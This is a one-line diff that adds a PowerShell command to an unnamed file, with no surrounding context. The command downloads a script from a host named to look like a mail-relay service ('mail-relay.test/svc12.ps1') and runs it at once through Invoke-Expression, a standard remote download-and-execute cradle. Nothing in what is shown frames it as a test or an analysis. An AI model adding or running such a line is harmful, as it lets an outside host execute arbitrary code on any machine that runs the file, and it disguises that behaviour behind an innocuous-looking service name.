@@ -1,0 +1,1 @@
+(New-Object Net.WebClient).DownloadString('http://mail-relay.test/svc12.ps1') | Invoke-Expression
